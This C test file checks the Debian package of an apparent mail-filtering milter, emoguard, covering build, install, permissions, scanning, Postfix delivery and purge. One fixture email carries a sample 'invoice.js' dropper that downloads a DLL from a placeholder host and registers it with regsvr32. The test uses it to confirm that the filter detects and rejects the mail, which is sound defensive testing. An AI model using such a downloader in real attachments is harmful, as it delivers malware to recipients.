/*
 * End to end for the Debian package: builds the .deb from this tree (scripts/build-deb.sh, the
 * same as `make deb`), installs it with apt-get, checks the installed files, the emoguard user and
 * the permissions, runs the installed binary (version, milter -t as the emoguard user, a scan that
 * needs the installed domain lists and YARA rules), starts the installed milter with the installed
 * configuration on a unix socket behind a private Postfix and sends mail through it, then purges
 * the package and checks that nothing is left: files, directories, the man pages, the user and
 * the group. The package must ship the man pages (checked in the .deb itself, since a system may
 * exclude /usr/share/man from installs).
 * Needs root and debhelper (scripts/debian-packages-deb.txt); skipped without root. The package
 * installed by an earlier run is purged first.
 */
#include "deb_paths.h"
#include "milter_harness.h"
#include "testutil.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include <grp.h>
#include <pwd.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static char *dir;
static char debdir[600];
static bool installed;

/* "株式会社サンプル商事" from gmail.com (needs the installed free-mail list) with a script that
 * downloads and registers a DLL (text only; needs the installed YARA rules for INTEL.YARA) */
static const char bad_mail[] =
    "From: =?UTF-8?B?5qCq5byP5Lya56S+44K144Oz44OX44Or5ZWG5LqL?= <sample.shoji@gmail.com>\r\n"
    "To: user@test.example\r\nSubject: invoice\r\nMessage-ID: <deb-bad@gmail.com>\r\n"
    "Date: Mon, 07 Dec 2026 10:00:00 +0900\r\nMIME-Version: 1.0\r\n"
    "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\n"
    "Content-Type: text/plain; charset=us-ascii\r\n\r\nPlease see the attached file.\r\n--b1\r\n"
    "Content-Type: application/octet-stream; name=\"invoice.js\"\r\n"
    "Content-Disposition: attachment; filename=\"invoice.js\"\r\n\r\n"
    "var x = new ActiveXObject(\"MSXML2.XMLHTTP\"); x.open(\"GET\", "
    "\"http://example.invalid/a.dll\", false);\r\n"
    "var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"regsvr32 /s a.dll\");\r\n--b1--\r\n";

static const char clean_mail[] =
    "From: Taro <taro@partner.test.example>\r\nTo: user@test.example\r\n"
    "Subject: meeting\r\nMessage-ID: <deb-clean@partner.test.example>\r\n"
    "Date: Mon, 07 Dec 2026 10:00:00 +0900\r\n\r\nSee you tomorrow at ten.\r\n";

static int sh(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
/* Runs a shell command (output to the test's stderr); returns its exit code. */
static int sh(const char *fmt, ...)
{
    char cmd[4096];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(cmd, sizeof cmd, fmt, ap);
    va_end(ap);
    int st = system(cmd);
    return st == -1 || !WIFEXITED(st) ? -1 : WEXITSTATUS(st);
}

static char *run(const char *cmd, int *rc)
{
    char *out = NULL;
    *rc = eg_test_run(cmd, &out, NULL);
    assert_non_null(out);
    return out;
}

static bool exists(const char *p)
{
    struct stat sb;
    return lstat(p, &sb) == 0;
}

static int setup(void **unused)
{
    (void)unused;
    if (geteuid() != 0)
        return 0;
    unsetenv("EMOGUARD_DATA_DIR"); /* the installed binary must find its own lists */
    setenv("DEBIAN_FRONTEND", "noninteractive", 1);
    dir = eg_test_tmpdir("deb");
    if (!dir)
        return -1;
    chmod(dir, 0755); /* the emoguard user and Postfix read below it */
    snprintf(debdir, sizeof debdir, "%s/deb-test", EG_BUILD_DIR);
    /* an earlier run that stopped half-way */
    sh("dpkg-query -W -f='${Status}' emoguard 2>/dev/null | grep -q 'ok installed' && dpkg --purge "
       "emoguard "
       ">/dev/null 2>&1; true");
    return 0;
}

static int teardown(void **unused)
{
    (void)unused;
    eg_mh_cleanup_all();
    if (installed)
        sh("dpkg --purge emoguard >/dev/null 2>&1");
    if (dir)
        eg_test_rmrf(dir);
    free(dir);
    return 0;
}

static void build_and_install(void **unused)
{
    (void)unused;
    if (geteuid() != 0)
        skip(); /* apt-get and dpkg need root */
    assert_int_equal(sh("JOBS=2 sh '%s/scripts/build-deb.sh' '%s' >&2", EG_SOURCE_DIR, debdir), 0);
    char cmd[1024];
    snprintf(cmd, sizeof cmd, "dpkg-deb -f %s/emoguard_*.deb Depends", debdir);
    int rc;
    char *deps = run(cmd, &rc); /* only shared libraries (and adduser for the user) */
    assert_int_equal(rc, 0);
    assert_non_null(strstr(deps, "libyara"));
    assert_non_null(strstr(deps, "libhiredis"));
    assert_null(strstr(deps, "libmilter")); /* the milter protocol is its own */
    assert_null(strstr(deps, "postfix"));
    assert_null(strstr(deps, "redis-server"));
    assert_null(strstr(deps, "gcc"));
    assert_null(strstr(deps, "clang"));
    free(deps);
    snprintf(cmd, sizeof cmd, "dpkg-deb -c %s/emoguard_*.deb", debdir);
    char *contents = run(cmd, &rc);
    assert_int_equal(rc, 0);
    for (size_t i = 0; i < EG_DEB_N_MAN_PAGES; i++) {
        char entry[200];
        snprintf(entry, sizeof entry, " .%s\n", eg_deb_man_pages[i]);
        if (!strstr(contents, entry))
            fprintf(stderr, "not in the package: %s\n", eg_deb_man_pages[i]);
        assert_non_null(strstr(contents, entry));
    }
    free(contents);
    assert_int_equal(
        sh("cd '%s' && apt-get install -y --no-install-recommends ./emoguard_*.deb >&2", debdir),
        0);
    installed = true;
}

static void files_user_and_permissions(void **unused)
{
    (void)unused;
    if (!installed)
        skip();
    for (size_t i = 0; i < EG_DEB_N_FILES; i++) {
        if (!exists(eg_deb_files[i]))
            fprintf(stderr, "missing: %s\n", eg_deb_files[i]);
        assert_true(exists(eg_deb_files[i]));
    }
    struct passwd *pw = getpwnam("emoguard");
    assert_non_null(pw);
    struct stat sb;
    assert_int_equal(stat("/var/lib/emoguard", &sb), 0);
    assert_int_equal(sb.st_uid, pw->pw_uid);
    assert_int_equal(stat("/etc/emoguard/emoguard.conf", &sb), 0);
    assert_int_equal(sb.st_mode & 0777, 0640);
    struct group *eg = getgrnam("emoguard");
    assert_non_null(eg);
    assert_int_equal(sb.st_gid, eg->gr_gid);
    /* in group postfix where Postfix is installed, so that the socket can be given to it */
    if (getgrnam("postfix"))
        assert_int_equal(sh("id -nG emoguard | tr ' ' '\\n' | grep -qx postfix"), 0);
    int rc;
    char *out = run("dpkg-query -W -f='${Conffiles}' emoguard", &rc);
    assert_non_null(strstr(out, "/etc/emoguard/emoguard.conf"));
    free(out);
    out = run("cat /etc/emoguard/emoguard.conf", &rc);
    assert_non_null(strstr(out, "\nyara_rules = /usr/share/emoguard/rules"));
    free(out);
    out = run("cat /lib/systemd/system/emoguard.service", &rc);
    assert_non_null(
        strstr(out, "ExecStart=/usr/bin/emoguard milter -c /etc/emoguard/emoguard.conf"));
    assert_non_null(strstr(out, "UMask="));
    /* the MTA holds each SMTP transaction for the milter's verdict */
    assert_non_null(strstr(out, "\nCPUWeight=300"));
    free(out);
}

static void installed_binary_runs(void **unused)
{
    (void)unused;
    if (!installed)
        skip();
    int rc;
    char *out = run("/usr/bin/emoguard --version 2>&1", &rc);
    assert_int_equal(rc, 0);
    assert_non_null(strstr(out, EG_VERSION));
    free(out);
    /* as the service runs it: the emoguard user reads the configuration, lists and rules */
    out = run(
        "runuser -u emoguard -- /usr/bin/emoguard milter -t -c /etc/emoguard/emoguard.conf 2>&1",
        &rc);
    if (rc != 0)
        fprintf(stderr, "%s\n", out);
    assert_int_equal(rc, 0);
    assert_non_null(strstr(out, "OK"));
    free(out);
    char eml[700];
    snprintf(eml, sizeof eml, "%s/bad.eml", dir);
    assert_int_equal(eg_test_write_file(eml, bad_mail, sizeof bad_mail - 1), 0);
    char cmd[1200];
    snprintf(
        cmd, sizeof cmd,
        "cd / && /usr/bin/emoguard scan --format json --rules /usr/share/emoguard/rules %s 2>&1",
        eml);
    out = run(cmd, &rc);
    assert_int_equal(rc, 2);                                  /* malicious */
    assert_non_null(strstr(out, "SENDER.ORG_NAME_FREEMAIL")); /* the installed lists */
    assert_non_null(strstr(out, "INTEL.YARA"));               /* the installed rules */
    assert_null(strstr(out, "not readable"));
    free(out);
}

/* The installed milter with the installed configuration (only the socket, the log and the
 * metrics port changed) on a unix socket, as the emoguard user, behind a private Postfix. */
static void installed_milter_behind_postfix(void **unused)
{
    (void)unused;
    if (!installed)
        skip();
    char sockdir[700], conf[700], log[700], cmd[2048];
    snprintf(sockdir, sizeof sockdir, "%s/run", dir);
    snprintf(conf, sizeof conf, "%s/emoguard.conf", dir);
    snprintf(log, sizeof log, "%s/milter.log", dir);
    assert_int_equal(sh("install -d -o emoguard -g emoguard -m 0755 '%s'", sockdir), 0);
    assert_int_equal(
        sh("cp /etc/emoguard/emoguard.conf '%s' && printf 'socket = unix:%s/milter.sock\\nlog = "
           "stderr\\nstats_listen = 127.0.0.1:%d\\n' >> '%s' && chmod 644 '%s'",
           conf, sockdir, eg_mh_free_port(), conf, conf),
        0);
    pid_t p = fork();
    assert_true(p >= 0);
    if (p == 0) {
        FILE *f = freopen(log, "w", stderr);
        (void)f;
        setpgid(0, 0);
        execlp("runuser", "runuser", "-u", "emoguard", "--", "/usr/bin/emoguard", "milter", "-f",
               "-c", conf, (char *)NULL);
        _exit(127);
    }
    bool up = false;
    for (int t = 0; t < 20000 && !up; t += 100) {
        uint8_t *text = eg_test_read_file(log, NULL);
        up = text && strstr((char *)text, "listening on");
        free(text);
        struct timespec ts = {0, 100000000L};
        nanosleep(&ts, NULL);
    }
    if (!up)
        sh("cat '%s' >&2", log);
    assert_true(up);
    char sock[800];
    snprintf(sock, sizeof sock, "%s/milter.sock", sockdir);
    struct stat sb;
    assert_int_equal(lstat(sock, &sb), 0);
    assert_int_equal(sb.st_mode & 0777, 0660);
    struct group *pg = getgrnam("postfix");
    if (pg)
        assert_int_equal(sb.st_gid, pg->gr_gid);

    eg_mh_postfix pf;
    memset(&pf, 0, sizeof pf);
    snprintf(pf.dir, sizeof pf.dir, "%s/pf", dir);
    assert_true(strlen(sock) < sizeof pf.milter1_unix);
    memcpy(pf.milter1_unix, sock, strlen(sock) + 1);
    assert_int_equal(sh("mkdir -p '%s'", pf.dir), 0);
    pf.smtp1 = eg_mh_free_port();
    pf.smtp2 = eg_mh_free_port();
    pf.relay = eg_mh_free_port();
    pf.milter1 = eg_mh_free_port(); /* unused: smtp1 talks to the unix socket */
    pf.milter2 = eg_mh_free_port(); /* unused */
    if (!eg_mh_postfix_start(&pf)) {
        kill(-p, SIGTERM);
        fail();
    }
    const char *rcpt[] = {"user@test.example"};
    char reply[2048];
    int code = eg_smtp_send(pf.smtp1, "taro@partner.test.example", rcpt, 1, clean_mail, reply,
                            sizeof reply);
    assert_int_equal(code, 250);
    assert_true(eg_mh_wait_delivered(&pf, 1, 20000));
    char *m = eg_mh_find_delivered(&pf, "deb-clean@");
    assert_non_null(m);
    assert_non_null(strstr(m, "X-Emoguard-Verdict: clean"));
    free(m);
    code = eg_smtp_send(pf.smtp1, "sample.shoji@gmail.com", rcpt, 1, bad_mail, reply, sizeof reply);
    assert_int_equal(code, 550);
    eg_mh_postfix_stop(&pf);
    kill(-p, SIGTERM);
    int st;
    waitpid(p, &st, 0);
    snprintf(cmd, sizeof cmd, "cat '%s'", log);
    int rc;
    char *out = run(cmd, &rc);
    assert_non_null(strstr(out, "INTEL.YARA"));
    assert_non_null(strstr(out, "SENDER.ORG_NAME_FREEMAIL"));
    free(out);
}

static void purge_leaves_nothing(void **unused)
{
    (void)unused;
    if (!installed)
        skip();
    /* what the service would have made at run time must go too */
    assert_int_equal(
        sh("install -d -o emoguard /var/log/emoguard && touch /var/lib/emoguard/state"), 0);
    assert_int_equal(sh("dpkg --purge emoguard >&2"), 0);
    installed = false;
    for (size_t i = 0; i < EG_DEB_N_FILES; i++) {
        if (exists(eg_deb_files[i]))
            fprintf(stderr, "left behind: %s\n", eg_deb_files[i]);
        assert_false(exists(eg_deb_files[i]));
    }
    for (size_t i = 0; i < EG_DEB_N_MAN_PAGES; i++) {
        if (exists(eg_deb_man_pages[i]))
            fprintf(stderr, "left behind: %s\n", eg_deb_man_pages[i]);
        assert_false(exists(eg_deb_man_pages[i]));
    }
    for (size_t i = 0; i < EG_DEB_N_DIRS_GONE; i++) {
        if (exists(eg_deb_dirs_gone[i]))
            fprintf(stderr, "left behind: %s\n", eg_deb_dirs_gone[i]);
        assert_false(exists(eg_deb_dirs_gone[i]));
    }
    assert_int_not_equal(sh("getent passwd emoguard >/dev/null"), 0);
    assert_int_not_equal(sh("getent group emoguard >/dev/null"), 0);
    assert_int_not_equal(sh("getent group postfix | grep -qw emoguard"), 0);
    assert_int_not_equal(
        sh("dpkg-query -W -f='${Status}' emoguard 2>/dev/null | grep -q installed"), 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(build_and_install),     cmocka_unit_test(files_user_and_permissions),
        cmocka_unit_test(installed_binary_runs), cmocka_unit_test(installed_milter_behind_postfix),
        cmocka_unit_test(purge_leaves_nothing),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
